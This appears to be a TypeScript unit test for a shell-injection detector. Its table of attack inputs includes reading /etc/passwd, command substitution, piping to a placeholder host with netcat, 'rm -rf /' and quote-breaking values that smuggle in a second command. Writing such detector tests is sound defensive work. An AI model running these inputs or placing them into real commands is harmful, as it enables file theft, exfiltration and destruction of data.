import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectShellInjection } from './detect.js';

const cases: [template: string, input: string, attack: boolean][] = [
  ['echo {}', 'hello', false],
  ['echo {}', 'report.v2.pdf', false],
  ['echo {}', 'user@example.com', false],
  ['echo {}', 'a; cat /etc/passwd', true],
  ['echo {}', '$(id)', true],
  ['echo {}', '`id`', true],
  ['echo {}', 'x | nc evil 1', true],
  ['echo {}', 'x && rm -rf /', true],
  ['echo {}', 'two words', true],
  ['echo {}', 'x\nid', true],
  ["echo '{}'", 'two words; and semicolons | pipes', false],
  ["echo '{}'", "it'; id; echo '", true],
  ['echo "{}"', 'two words; fine', false],
  ['echo "{}"', '$(id)', true],
  ['echo "{}"', 'a" ; id ; "', true],
  ['ls -la {}', '--help', false],
];

test('shell injection: metacharacters the shell interprets in the input position', () => {
  for (const [template, input, attack] of cases) {
    const command = template.replace('{}', () => input);
    const reason = detectShellInjection(command, input);
    assert.equal(reason !== undefined, attack, `${command} → ${reason}`);
  }
});

test('escaped metacharacters are literal', () => {
  assert.equal(detectShellInjection('echo a\\;b', 'a\\;b'), undefined);
});
